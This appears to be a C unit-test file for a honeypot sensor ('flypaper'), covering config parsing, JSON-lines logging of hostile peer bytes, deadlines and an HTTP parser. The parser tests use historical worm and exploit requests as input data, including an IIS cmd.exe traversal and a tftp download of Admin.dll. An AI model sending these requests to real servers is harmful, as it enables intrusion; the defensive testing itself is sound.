	char *argv[] = {"serve", "-c", path, "--idle-timeout", "2s", "--listen",
	    "[::1]:90", NULL};
	config_defaults(&cfg);
	int rc = config_parse_args(&cfg, CONFIG_SERVE, 7, argv, err, sizeof(err));
	CHECK(rc == 0, "parse args: %s", err);
	CHECK(cfg.idle_timeout_ms == 2000, "flag wins: %llu",
	    (unsigned long long)cfg.idle_timeout_ms);
	CHECK(cfg.nlisten == 1 && addr_port(&cfg.listen[0]) == 90, "listen replaced");
	CHECK(strcmp(cfg.goaway_text, "bye\r\n") == 0, "escapes");
	config_free(&cfg);

	char *bad[] = {"serve", "--idle-timeout", "1s", "--session-timeout", "500ms", NULL};
	config_defaults(&cfg);
	rc = config_parse_args(&cfg, CONFIG_SERVE, 5, bad, err, sizeof(err));
	CHECK(rc < 0 && strstr(err, "shorter than idle-timeout"), "cross check: %s", err);
	config_free(&cfg);

	char *unknown[] = {"inetd", "--listen", "1.2.3.4:5", NULL};
	config_defaults(&cfg);
	rc = config_parse_args(&cfg, CONFIG_INETD, 3, unknown, err, sizeof(err));
	CHECK(rc < 0 && strstr(err, "--listen"), "inetd has no --listen: %s", err);
	config_free(&cfg);
	unlink(path);
}

static void test_jsonl_format(void)
{
	struct record *r = make_record(5);
	json_error_t jerr;

	memcpy(r->payload, "\x00\xff" "ab\n", 5);
	record_hash_payload(r);
	r->bytes_in = 9;
	r->truncated = true;
	r->duration_ms = 1500;
	r->first_byte_ms = 3;
	addr_parse("[::1]:4444", &r->src);
	addr_parse("127.0.0.1:80", &r->dst);
	char *line = jsonl_format(r, "s1");
	json_t *o = json_loads(line, 0, &jerr);
	CHECK(o != NULL, "parses: %s", line);
	CHECK(strcmp(json_string_value(json_object_get(o, "eventid")),
	    "flypaper.session.closed") == 0, "eventid");
	CHECK(json_is_integer(json_object_get(o, "src_port")), "src_port is an integer");
	CHECK(json_is_integer(json_object_get(o, "first_byte_ms")), "first_byte_ms");
	CHECK(json_is_true(json_object_get(o, "truncated")), "truncated is true");
	CHECK(strcmp(json_string_value(json_object_get(o, "payload")), "AP9hYgo=") == 0,
	    "base64 %s", json_string_value(json_object_get(o, "payload")));
	CHECK(strcmp(json_string_value(json_object_get(o, "src_ip")), "::1") == 0, "src_ip");
	CHECK(strchr(line, '\n') == NULL, "one line");
	json_decref(o);
	free(line);

	r->first_byte_ms = -1;
	r->kind = RECORD_CONNECT;
	line = jsonl_format(r, "s1");
	o = json_loads(line, 0, &jerr);
	CHECK(o && !json_object_get(o, "payload"), "connect has no payload");
	json_decref(o);
	free(line);
	r->kind = RECORD_CLOSED;
	line = jsonl_format(r, "s1");
	o = json_loads(line, 0, &jerr);
	CHECK(o && json_is_null(json_object_get(o, "first_byte_ms")), "null first byte");
	CHECK(o && !json_object_get(o, "escaped_fields"), "nothing escaped");
	json_decref(o);
	free(line);

	/* IDENT fields are peer bytes: escaped, never a reason to lose the
	 * event. A string jansson refuses from anywhere else (a sensor, a
	 * rule name) goes out escaped and named in escaped_fields. */
	r->ident = calloc(1, sizeof(*r->ident));
	r->ident->status = IDENT_USERID;
	strcpy(r->ident->opsys, "UNIX\x1b]0;x\x07");
	strcpy(r->ident->charset, "\xff\xfe");
	strcpy(r->ident->userid, "\x1b[2J\xc3\x28\\");
	strcpy(r->ident->error, "\x9b");
	static struct record_match m[2];
	snprintf(m[0].rule, sizeof(m[0].rule), "ok_rule");
	snprintf(m[0].tags, sizeof(m[0].tags), "fam\xff x");
	snprintf(m[1].rule, sizeof(m[1].rule), "bad\xc3");
	snprintf(m[1].tags, sizeof(m[1].tags), "   ");
	r->matches = malloc(sizeof(m));
	memcpy(r->matches, m, sizeof(m));
	r->nmatches = 2;
	line = jsonl_format(r, "s\xe9");
	o = line ? json_loads(line, 0, &jerr) : NULL;
	CHECK(o != NULL, "hostile record still formats: %s", line ? line : "(null)");
	const char *want[][2] = {
		{"ident_opsys", "UNIX\\x1b]0;x\\x07"}, {"ident_charset", "\\xff\\xfe"},
		{"ident_userid", "\\x1b[2J\\xc3(\\x5c"}, {"ident_error", "\\x9b"},
		{"sensor", "s\\xe9"},
	};
	for (size_t i = 0; o && i < sizeof(want) / sizeof(want[0]); i++) {
		const char *got = json_string_value(json_object_get(o, want[i][0]));
		CHECK(got && strcmp(got, want[i][1]) == 0, "%s: %s", want[i][0], got ? got : "-");
	}
	json_t *esc = o ? json_object_get(o, "escaped_fields") : NULL;
	char names[64] = "";
	for (size_t i = 0; i < json_array_size(esc); i++) {
		strncat(names, json_string_value(json_array_get(esc, i)), 20);
		strcat(names, " ");
	}
	CHECK(strcmp(names, "sensor families rules ") == 0, "escaped_fields %s", names);
	CHECK(json_array_size(json_object_get(o, "rules")) == 2 &&
	    json_array_size(json_object_get(o, "families")) == 1, "rules and families");
	json_decref(o);
	free(line);
	record_free(r);
}

/* Reads what fd holds now (non-blocking) into buf; returns the length. */
static size_t drain(int fd, char *buf, size_t cap)
{
	size_t got = 0;
	ssize_t n;

	while (got < cap - 1 && (n = read(fd, buf + got, cap - 1 - got)) > 0)
		got += (size_t)n;
	buf[got] = '\0';
	return got;
}

/* Every line of text parses as JSON; returns how many there are. */
static int json_lines(const char *text)
{
	int n = 0;

	for (const char *p = text; *p;) {
		const char *nl = strchr(p, '\n');
		json_error_t jerr;
		json_t *o;
		if (!nl)
			return -1;
		o = json_loadb(p, (size_t)(nl - p), 0, &jerr);
		if (!o)
			return -1;
		json_decref(o);
		n++;
		p = nl + 1;
	}
	return n;
}

/* A write cut short never leaves half a line before the next event: on a
 * file the partial line is cut off, on a pipe the next batch starts on a
 * fresh line; the lines lost are counted. */
static void test_jsonl_cut_writes(void)
{
	static char buf[64 * 1024];
	struct record *big = make_record(8000), *small = make_record(10);
	char err[256], path[] = "/tmp/flypaper-unit-jsonl-XXXXXX";
	struct jsonl *j;
	struct stat st;
	int p[2], saved, fd;

	/* a file that may grow only so far (RLIMIT_FSIZE: write(2) stops at
	 * the limit as on a full disk) */
	fd = mkstemp(path);
	close(fd);
	j = jsonl_open(path, "s", err, sizeof(err));
	uint64_t esc;
	CHECK(j && jsonl_write(j, small, &esc) == 0 && esc == 0, "first line");
	stat(path, &st);
	off_t before = st.st_size;
	struct rlimit old, lim;
	getrlimit(RLIMIT_FSIZE, &old);
	lim = old;
	lim.rlim_cur = 2 * (rlim_t)before + 100;
	signal(SIGXFSZ, SIG_IGN);
	setrlimit(RLIMIT_FSIZE, &lim);
	small->next = big;
	uint64_t lost = jsonl_write(j, small, &esc); /* the small line fits, not the big one */
	setrlimit(RLIMIT_FSIZE, &old);
	small->next = NULL;
	CHECK(lost == 1, "cut batch: %llu lost", (unsigned long long)lost);
	CHECK(jsonl_write(j, small, &esc) == 0, "after the cut");
	jsonl_close(j);
	fd = open(path, O_RDONLY);
	size_t len = drain(fd, buf, sizeof(buf));
	close(fd);
	unlink(path);
	CHECK(json_lines(buf) == 3 && len == 3 * (size_t)before, "file: %d lines, %zu bytes",
	    json_lines(buf), len);

	/* a pipe that takes only part of a line (non-blocking: EAGAIN) */
	CHECK(pipe2(p, O_NONBLOCK) == 0, "pipe");
	fcntl(p[1], F_SETPIPE_SZ, 4096);
	fflush(stdout);
	saved = dup(STDOUT_FILENO);
	dup2(p[1], STDOUT_FILENO);
	j = jsonl_open("-", "s", err, sizeof(err));
	lost = jsonl_write(j, big, &esc);
	size_t got = drain(p[0], buf, sizeof(buf));
	uint64_t lost2 = jsonl_write(j, small, &esc);
	size_t got2 = drain(p[0], buf, sizeof(buf));
	jsonl_close(j);
	dup2(saved, STDOUT_FILENO);
	close(saved);
	close(p[0]);
	close(p[1]);
	CHECK(lost == 1 && got > 0 && got < 8000, "pipe: %llu lost, %zu bytes",
	    (unsigned long long)lost, got);
	CHECK(lost2 == 0 && got2 > 1 && buf[0] == '\n' && json_lines(buf + 1) == 1,
	    "pipe: next batch on a fresh line: '%.40s'", buf);
	record_free(big);
	record_free(small);
}

/* A line with a field jansson refused is written, escaped: counted apart
 * from the lines lost (not as a JSON-lines error), and only when it made
 * it into the file whole. */
static void test_jsonl_escaped_is_not_lost(void)
{
	struct record *big = make_record(8000), *small = make_record(10);
	char err[256], path[] = "/tmp/flypaper-unit-jsonl-XXXXXX";
	struct jsonl *j;
	struct stat st;
	uint64_t esc = 99, lost;
	int fd = mkstemp(path);

	close(fd);
	j = jsonl_open(path, "s\xe9", err, sizeof(err));  /* not UTF-8: escaped */
	lost = j ? jsonl_write(j, small, &esc) : 1;
	CHECK(lost == 0 && esc == 1, "escaped line: %llu lost, %llu escaped",
	    (unsigned long long)lost, (unsigned long long)esc);
	stat(path, &st);
	struct rlimit old, lim;
	getrlimit(RLIMIT_FSIZE, &old);
	lim = old;
	lim.rlim_cur = 2 * (rlim_t)st.st_size + 100;
	signal(SIGXFSZ, SIG_IGN);
	setrlimit(RLIMIT_FSIZE, &lim);
	small->next = big;
	lost = j ? jsonl_write(j, small, &esc) : 0;  /* the small one fits, not the big one */
	setrlimit(RLIMIT_FSIZE, &old);
	small->next = NULL;
	CHECK(lost == 1 && esc == 1, "cut batch: %llu lost, %llu escaped",
	    (unsigned long long)lost, (unsigned long long)esc);
	jsonl_close(j);
	unlink(path);
	record_free(big);
	record_free(small);
}

/* An owner of deadlines for the deadline tests: no session, worker or
 * loop, just the lists and what they fire. Like a session, it has fewer
 * slots than there are kinds: kind 1 uses dl[1], the others dl[0]. */
struct dl_owner {
	int id;
	struct deadline dl[2];
};

static int dl_slot(int kind)
{
	return kind == 1 ? 1 : 0;
}

struct dl_log {
	int n;
	int fired[16];               /* id * 10 + kind, in firing order */
	struct dl_owner *again;      /* set this one's kind 0 again when it fires */
	struct deadlines *d;
};

static void dl_fire(void *ctx, struct deadline *dl, int kind, uint64_t now_ns)
{
	struct dl_log *log = ctx;
	struct dl_owner *o = list_entry(dl - dl_slot(kind), struct dl_owner, dl);

	if (log->n < 16)
		log->fired[log->n++] = o->id * 10 + kind;
	if (o == log->again && kind == 0) {
		log->again = NULL;
		deadlines_set(log->d, &o->dl[0], 0, now_ns);
	}
}

static void test_deadlines(void)
{
	struct deadlines d;
	struct dl_log log = {0};
	struct dl_owner a = {.id = 1}, b = {.id = 2}, c = {.id = 3};
	const uint64_t ms = 1000000ULL;
	const uint64_t delays[] = {100, 1000, 0, 50};

	deadlines_init(&d, delays, 4, dl_fire, &log);
	log.d = &d;
	for (int k = 0; k < 2; k++) {
		deadlines_unset(&a.dl[k]);
		deadlines_unset(&b.dl[k]);
		deadlines_unset(&c.dl[k]);
	}
	CHECK(deadlines_next_ms(&d, 0) == -1, "no deadlines, none next");

	CHECK(deadlines_set(&d, &a.dl[0], 0, 10 * ms), "the first of a list re-arms");
	CHECK(deadlines_set(&d, &a.dl[1], 1, 10 * ms), "the first of another list re-arms");
	CHECK(deadlines_next_ms(&d, 10 * ms) == 100, "kind 0 first: %lld",
	    (long long)deadlines_next_ms(&d, 10 * ms));
	CHECK(deadlines_next_ms(&d, 10 * ms + 1) == 100, "rounds up");
	CHECK(deadlines_next_ms(&d, 500 * ms) == 0, "overdue is 0");
	CHECK(!deadlines_set(&d, &b.dl[0], 2, 10 * ms) && list_empty(&d.lists[2]) &&
	    list_empty(&b.dl[0].link), "a kind with delay 0 is off");
	CHECK(!deadlines_set(&d, &b.dl[0], 4, 10 * ms) && !deadlines_set(&d, &b.dl[0], -1, 0) &&
	    list_empty(&b.dl[0].link), "a kind out of range is refused");

	CHECK(!deadlines_set(&d, &b.dl[0], 0, 50 * ms), "behind another: no re-arm");
	deadlines_set(&d, &b.dl[1], 1, 50 * ms);
	/* a keeps talking until just before its kind-1 deadline: it moves */
	CHECK(!deadlines_set(&d, &a.dl[0], 0, 1000 * ms), "a move does not re-arm");
	CHECK(d.lists[0].next == &b.dl[0].link && d.lists[0].prev == &a.dl[0].link,
	    "a moved to the end");
	CHECK(deadlines_next_ms(&d, 60 * ms) == 90, "b's kind 0: %lld",
	    (long long)deadlines_next_ms(&d, 60 * ms));
	deadlines_clear(&b.dl[0]);
	deadlines_clear(&b.dl[1]);
	deadlines_clear(&b.dl[1]);   /* twice is harmless */
	CHECK(deadlines_next_ms(&d, 900 * ms) == 110, "a's kind 1: %lld",
	    (long long)deadlines_next_ms(&d, 900 * ms));
	CHECK(deadlines_set(&d, &b.dl[0], 3, 950 * ms), "b's kind 3 re-arms");
	CHECK(deadlines_next_ms(&d, 960 * ms) == 40, "b's kind 3: %lld",
	    (long long)deadlines_next_ms(&d, 960 * ms));

	/* Firing: nothing before its time; then kind by kind, earliest first
	 * within a kind, each deadline leaving its list as it fires. */
	deadlines_fire(&d, 999 * ms);
	CHECK(log.n == 0, "nothing due at 999 ms: %d fired", log.n);
	deadlines_set(&d, &c.dl[1], 1, 20 * ms);     /* kind 1: a (10), c (20) */
	log.again = &a;              /* a's kind 0 comes back when it fires */
	deadlines_fire(&d, 1100 * ms);
	CHECK(log.n == 4 && log.fired[0] == 10 && log.fired[1] == 11 && log.fired[2] == 31 &&
	    log.fired[3] == 23, "fire order: %d: %d %d %d %d", log.n, log.fired[0],
	    log.fired[1], log.fired[2], log.fired[3]);
	CHECK(!list_empty(&a.dl[0].link) && a.dl[0].stamp_ns == 1100 * ms &&
	    list_empty(&a.dl[1].link) && list_empty(&c.dl[1].link) && list_empty(&b.dl[0].link),
	    "fired deadlines left their lists, the one set again is back");
	CHECK(deadlines_next_ms(&d, 1100 * ms) == 100, "a's kind 0 again: %lld",
	    (long long)deadlines_next_ms(&d, 1100 * ms));
	deadlines_clear(&a.dl[0]);
	CHECK(deadlines_next_ms(&d, 0) == -1, "empty again");
	log.n = 0;
	deadlines_fire(&d, UINT64_MAX / 2);
	CHECK(log.n == 0, "nothing left to fire");
}

/* Idle memory per connection is a bar of the design (DESIGN.md, "Memory"):
 * an idle session must fit the malloc chunk it has always had. */
static void test_session_size(void)
{
	CHECK(sizeof(struct session) <= 632, "struct session is %zu bytes",
	    sizeof(struct session));
}

static int64_t parse(const char *text, struct http_request *req)
{
	return http_parse_request(text, strlen(text), req);
}

static bool span_is(const char *buf, struct http_span sp, const char *want)
{
	return sp.len == strlen(want) && memcmp(buf + sp.off, want, sp.len) == 0;
}

struct track_result;
static int track_splits_differ(const char *text, size_t len, size_t head_max,
    struct track_result *whole);

static void test_http_parser(void)
{
	static const struct {
		const char *text;
		int64_t rc;          /* > 0: the whole text is the head */
		const char *method, *target, *version, *host, *ua;
		int keep_alive;
	} cases[] = {
		{"GET / HTTP/1.0\r\n\r\n", 1, "GET", "/", "HTTP/1.0", "", "", 0},
		{"GET / HTTP/1.1\r\nHost: a\r\n\r\n", 1, "GET", "/", "HTTP/1.1", "a", "", 1},
		{"GET / HTTP/1.1\nHost: a\nConnection: close\n\n", 1, "GET", "/", "HTTP/1.1", "a", "", 0},
		{"GET / HTTP/1.0\r\nConnection: Keep-Alive\r\n\r\n", 1, "GET", "/", "HTTP/1.0", "", "", 1},
		{"\r\n\r\nHEAD /x HTTP/1.1\r\nUser-Agent:  zgrab/0.x \r\n\r\n", 1, "HEAD", "/x", "HTTP/1.1", "", "zgrab/0.x", 1},
		{"GET /scripts/..%%35c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\n\r\n", 1, "GET",
		 "/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir", "HTTP/1.0", "", "", 0},
		{"GET /scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n", 1, "GET",
		 "/scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll", "HTTP/1.0", "", "", 0},
		{"GET /default.ida?NNNN HTTP/1.0\r\nContent-type: text/xml\r\nHOST:www.worm.com\r\n Accept: */*\r\nContent-length: 3569 \r\n\r\n",
		 1, "GET", "/default.ida?NNNN", "HTTP/1.0", "www.worm.com", "", 0},
		{"GET /path\r\n", 1, "GET", "/path", "", "", "", 0},
		{"GET / HTTP/1.1\r\nHost: a\r\n", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
		{"GET / HTTP/1.1", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
		{"GE", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
		{"", HTTP_INCOMPLETE, NULL, NULL, NULL, NULL, NULL, 0},
		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
		{"GET / XTTP/1.0\r\n\r\n", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
		{"G(T / HTTP/1.0\r\n\r\n", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFGHIJKLMNOPQRSTUVWXYZ", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
		{"GET \r\n\r\n", HTTP_INVALID, NULL, NULL, NULL, NULL, NULL, 0},
	};

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct http_request req;
		const char *t = cases[i].text;
		int64_t rc = parse(t, &req);
		int64_t want = cases[i].rc > 0 ? (int64_t)strlen(t) : cases[i].rc;
		CHECK(rc == want, "http case %zu: rc %lld want %lld", i, (long long)rc,
		    (long long)want);
		CHECK(track_splits_differ(t, strlen(t), 256 * 1024, NULL) == 0,
		    "http case %zu: a split feed reads differently", i);
		if (rc <= 0 || want <= 0)
			continue;
		CHECK(span_is(t, req.method, cases[i].method), "case %zu method", i);
		CHECK(span_is(t, req.target, cases[i].target), "case %zu target", i);
		CHECK(span_is(t, req.version, cases[i].version), "case %zu version", i);
		CHECK(span_is(t, req.host, cases[i].host), "case %zu host", i);
		CHECK(span_is(t, req.user_agent, cases[i].ua), "case %zu ua", i);
		CHECK(req.keep_alive == cases[i].keep_alive, "case %zu keep-alive", i);
	}

	/* Every proper prefix of a request is incomplete, never invalid. */
	const char *full = "POST /GponForm/diag_Form?images/ HTTP/1.1\r\nHost: x\r\n"
	    "User-Agent: Hello, World\r\nContent-Length: 5\r\n\r\n";
	size_t n = strlen(full), bad = 0;
	for (size_t k = 0; k < n; k++) {
		struct http_request req;
		if (http_parse_request(full, k, &req) != HTTP_INCOMPLETE)
			bad++;
	}
	CHECK(bad == 0, "%zu prefixes were not incomplete", bad);
	struct http_request req;
	CHECK(http_parse_request(full, n, &req) == (int64_t)n && req.content_length == 5,
	    "content length");
}

/* ---- HTTP tracking across reads ------------------------------------- */

#define TRACK_KEEP 8                 /* requests compared per input */
#define TRACK_OK 0
#define TRACK_PARTIAL 1
#define TRACK_UNPARSED 2

struct track_result {
	int n;                       /* requests found */
	struct {
		size_t at;
		int64_t len;
		struct http_request req;
		uint64_t body;
	} r[TRACK_KEEP];
	int state;                   /* TRACK_OK, TRACK_PARTIAL, TRACK_UNPARSED */
};

/* Feeds text[0..len) to a stream tracker as a session does: the buffer
 * grows (to exactly the bytes received, so ASan sees any over-read) at each
 * of the ncuts cut points, then to len; after each growth the tracker is
 * asked until it has no complete request left. */
static void track(const char *text, size_t len, const size_t *cuts, size_t ncuts,
    size_t head_max, struct track_result *out)
{
	struct http_stream st = {0};
	char *buf = NULL;
	size_t have = 0;

	memset(out, 0, sizeof(*out));
	for (size_t c = 0; c <= ncuts; c++) {
		size_t upto = c < ncuts ? cuts[c] : len;
		if (upto < have)
			continue;
		char *grown = realloc(buf, upto ? upto : 1);
		if (!grown)
			abort();
		buf = grown;
		memcpy(buf + have, text + have, upto - have);
		have = upto;
		for (;;) {
			struct http_request req;
			size_t at = 0;
			uint64_t body = 0;
			int64_t rc = http_stream_next(&st, buf, have, head_max, &req, &at, &body);
			if (body && out->n && out->n <= TRACK_KEEP)
				out->r[out->n - 1].body += body;
			if (rc <= 0)
				break;
			if (out->n < TRACK_KEEP) {
				out->r[out->n].at = at;
				out->r[out->n].len = rc;
				out->r[out->n].req = req;
			}
			out->n++;
		}
	}
	out->state = st.invalid ? TRACK_UNPARSED
	    : http_stream_complete(&st, len) ? TRACK_OK : TRACK_PARTIAL;
	free(buf);
}

static bool span_eq(struct http_span a, struct http_span b)
{
	return a.off == b.off && a.len == b.len;
}

static bool track_eq(const struct track_result *a, const struct track_result *b)
{
	if (a->n != b->n || a->state != b->state)
		return false;
	for (int i = 0; i < a->n && i < TRACK_KEEP; i++) {
		const struct http_request *x = &a->r[i].req, *y = &b->r[i].req;
		if (a->r[i].at != b->r[i].at || a->r[i].len != b->r[i].len ||
		    a->r[i].body != b->r[i].body || !span_eq(x->method, y->method) ||
		    !span_eq(x->target, y->target) || !span_eq(x->version, y->version) ||
		    !span_eq(x->headers, y->headers) || !span_eq(x->host, y->host) ||
		    !span_eq(x->user_agent, y->user_agent) ||
		    x->content_length != y->content_length || x->chunked != y->chunked ||
		    x->keep_alive != y->keep_alive || x->head_only != y->head_only)
			return false;
	}
	return true;
}

/* Every split of text in two, and a byte-by-byte feed, give the one-shot
 * result (stored in *whole unless NULL). Returns the number of feeds that
 * differed. */
static int track_splits_differ(const char *text, size_t len, size_t head_max,
    struct track_result *whole)
{
	struct track_result part, own;
	size_t *cuts = malloc((len + 1) * sizeof(*cuts));
	int bad = 0;

	if (!whole)
		whole = &own;

	track(text, len, NULL, 0, head_max, whole);
	for (size_t k = 0; k <= len; k++) {
		track(text, len, &k, 1, head_max, &part);
		bad += !track_eq(whole, &part);
		cuts[k] = k;
	}
	track(text, len, cuts, len + 1, head_max, &part);
	bad += !track_eq(whole, &part);
	free(cuts);
	return bad;
}

/* A number below n from a fixed-seed generator (Knuth's MMIX LCG). */
static size_t lcg_below(uint64_t *seed, size_t n)
{
	*seed = *seed * 6364136223846793005ULL + 1442695040888963407ULL;
	return (size_t)((*seed >> 33) % n);
}

static void test_http_splits(void)
{
	static const struct {
		const char *text;
		size_t len;          /* 0: strlen */
		int nreq, state;     /* the one-shot result */
		uint64_t body;       /* body bytes of the first request */
	} cases[] = {
		{"GET / HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},
		{"\n\n\nGET /split HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},   /* the issue's */
		{"\r\n\r\nHEAD /x HTTP/1.1\r\nUser-Agent: z\r\n\r\n", 0, 1, TRACK_OK, 0},
		{"\r\r\r\nGET / HTTP/1.0\n\n", 0, 1, TRACK_OK, 0},
		{"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nGET / HTTP/1.0\n\n", 0, 1, TRACK_OK, 0},
		{"\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\n\nGET / HTTP/1.0\n\n", 0, 0, TRACK_UNPARSED, 0},
		{"\n", 0, 0, TRACK_PARTIAL, 0},
		{"GET /path\r\n", 0, 1, TRACK_OK, 0},
		{"GET /path\r\n\r\n", 0, 1, TRACK_PARTIAL, 0},
		{"GET / HTTP/1.0\n\r\n", 0, 1, TRACK_OK, 0},
		{"GET / HTTP/1.0\r\nA: b\r\n\rX\r\n\r\n", 0, 1, TRACK_OK, 0},
		{"GET / HTTP/1.1\r\nHost: a\r\n X-Folded: y\r\nUser-Agent: u\r\n\r\n", 0, 1, TRACK_OK, 0},
		{"GET /scripts/root.exe?/c+tftp -i 10.0.0.1 GET Admin.dll Admin.dll HTTP/1.0\r\n\r\n",
		 0, 1, TRACK_OK, 0},
		{"POST /p HTTP/1.1\r\nContent-Length: 4\r\n\r\nabcdGET /q HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 4},
		{"POST /p HTTP/1.1\r\nContent-Length: 10\r\n\r\nabcd", 0, 1, TRACK_PARTIAL, 4},
		{"POST / HTTP/1.0\r\nContent-Length: 2\r\n\r\nab\r\nGET / HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 2},
		{"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", 0, 1, TRACK_OK, 0},
		{"GET /a HTTP/1.1\r\nHost: x\r\n\r\nGET /b HTTP/1.1\r\nHost: x\r\n\r\nGET /c HTTP/1.1\r\n\r\n",
		 0, 3, TRACK_OK, 0},
		{"GET / HTTP/1.0\r\n\r\nSSH-2.0-x\r\n", 0, 1, TRACK_UNPARSED, 0},
		{"GET / HTTP/1.1\r\nHost: a\r\n", 0, 0, TRACK_PARTIAL, 0},
		{"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", 0, 0, TRACK_UNPARSED, 0},
		{"GET / XTTP/1.0\r\n\r\n", 0, 0, TRACK_UNPARSED, 0},
		{"GET\n\n", 0, 0, TRACK_UNPARSED, 0},
		{"GET \n\n", 0, 0, TRACK_UNPARSED, 0},
		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEF / HTTP/1.0\r\n\r\n", 0, 1, TRACK_OK, 0},
		{"ABCDEFGHIJKLMNOPQRSTUVWXYZABCDEFG / HTTP/1.0\r\n\r\n", 0, 0, TRACK_UNPARSED, 0},
		{"GET /\0x HTTP/1.0\r\n\r\n", 20, 1, TRACK_OK, 0},
		{"\r\nGET /a HTTP/1.0\r\n\r\n\r\n\r\nGET /b HTTP/1.0\r\n\r\n", 0, 2, TRACK_OK, 0},
	};
	struct track_result whole;
	int bad;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		const char *t = cases[i].text;
		size_t len = cases[i].len ? cases[i].len : strlen(t);
		bad = track_splits_differ(t, len, 256 * 1024, &whole);
		CHECK(bad == 0, "split case %zu: %d feeds differ from one write", i, bad);
		CHECK(whole.n == cases[i].nreq && whole.state == cases[i].state,
		    "split case %zu: %d requests, state %d", i, whole.n, whole.state);
		CHECK(whole.n == 0 || whole.r[0].body == cases[i].body,
		    "split case %zu: body %llu", i, (unsigned long long)whole.r[0].body);
		/* A cap on the head's length is decided the same way. */
		for (size_t cap = 8; cap <= 64; cap += 8) {
			bad = track_splits_differ(t, len, cap, &whole);
			CHECK(bad == 0, "split case %zu, head cap %zu: %d feeds differ", i, cap, bad);
		}
	}
	/* The head cap: a head of exactly the cap is a request, one byte more
	 * is not, however the bytes come. */
	const char *capped = "GET / HTTP/1.0\r\n\r\n";
	track_splits_differ(capped, 18, 18, &whole);
	CHECK(whole.n == 1 && whole.state == TRACK_OK, "a head of the cap's length");
	track_splits_differ(capped, 18, 17, &whole);
	CHECK(whole.n == 0 && whole.state == TRACK_UNPARSED, "a head over the cap");

	/* Randomised requests (leading blank lines, both line ends, bodies,
	 * pipelining, a damaged byte now and then), fixed seed. */
	static const char *const leads[] = {"", "", "\r\n", "\n", "\r\n\r\n", "\n\n\n"};
	static const char *const methods[] = {"GET", "POST", "HEAD", "G(T", "PROPFIND"};
	static const char *const targets[] = {"/", "/x?a=b c", "/default.ida?NNNN"};
	static const char *const versions[] = {" HTTP/1.0", " HTTP/1.1", " HTTP/1.1", "",
	    " XTTP/1.0"};
	static const char *const eols[] = {"\r\n", "\n"};
	static const char *const headers[] = {"Host: h", "Content-Length: 3",
	    "Connection: close", " folded", "User-Agent: u", "X"};
	uint64_t seed = 0x7f1a9e3b5c2d4e6fULL;
#define RANDOM(n) lcg_below(&seed, n)
#define PICK(a) a[RANDOM(sizeof(a) / sizeof(a[0]))]
#define PUT(str) do { const char *s_ = (str); size_t l_ = strlen(s_); \
	if (len + l_ < sizeof(text)) { memcpy(text + len, s_, l_); len += l_; } } while (0)
	int differing = 0, inputs = 0, requests = 0;
	for (int i = 0; i < 200; i++) {
		char text[512];
		size_t len = 0;
		for (size_t r = 0, nr = 1 + RANDOM(3); r < nr; r++) {
			const char *eol = PICK(eols), *version = PICK(versions);
			bool body = false;
			PUT(PICK(leads));
			PUT(PICK(methods));
			PUT(" ");
			PUT(PICK(targets));
			PUT(version);
			PUT(eol);
			if (!*version)
				continue;
			for (size_t h = 0, nh = RANDOM(4); h < nh; h++) {
				const char *line = PICK(headers);
				body |= line[0] == 'C' && line[1] == 'o' && line[2] == 'n' && line[3] == 't';
				PUT(line);
				PUT(eol);
			}
			PUT(eol);
			if (body)
				PUT("abc");
		}
		if (RANDOM(8) == 0 && len) {
			size_t at = RANDOM(len);
			text[at] = "\r\n \0x"[RANDOM(5)];
		}
		differing += track_splits_differ(text, len, 256 * 1024, &whole) != 0;
		requests += whole.n;
		inputs++;
	}
#undef RANDOM
#undef PICK
#undef PUT
	CHECK(differing == 0, "%d of %d random inputs read differently when split", differing,
	    inputs);
	CHECK(requests > 50, "the random inputs held only %d requests", requests);
}

/* The bytes an identd sends, framed (ident_reply_frame) then parsed
 * (ident_parse_reply) against the query "6191 , 23", as the probe does:
 * no worker, session, config or loop. A wire string of -2 or -1 frames as
 * incomplete or overlong; any other is a line of that status. The parser
 * copies peer bytes as they came (they are escaped where stored). */
static void test_ident_parser(void)
{
	static const struct {
		const char *wire;
		int len;                 /* -1: strlen(wire) */
		int frame;               /* 0: a line; -2 incomplete; -1 overlong */
		enum ident_status status;
		const char *a, *b, *c;   /* opsys, charset, userid / error */
	} cases[] = {
		/* USERID, with the line ends identds send */
		{"6191, 23 : USERID : UNIX : stjohns\r\n", -1, 0, IDENT_USERID, "UNIX", "", "stjohns"},
		{"6191 , 23:USERID:UNIX,US-ASCII:alice:with:colons\r\n", -1, 0, IDENT_USERID,
		    "UNIX", "US-ASCII", "alice:with:colons"},
		{"6191,23 : USERID : OTHER , UTF-8 :  bob\n", -1, 0, IDENT_USERID, "OTHER", "UTF-8", "bob"},
		{"  6191 ,23 :userid: unix :x\r\n", -1, 0, IDENT_USERID, "unix", "", "x"},
		{"06191,0023 : USERID : UNIX : z\r\n", -1, 0, IDENT_USERID, "UNIX", "", "z"},
		{"6191, 23 : USERID : UNIX : a b\tc \r\n", -1, 0, IDENT_USERID, "UNIX", "", "a b\tc "},
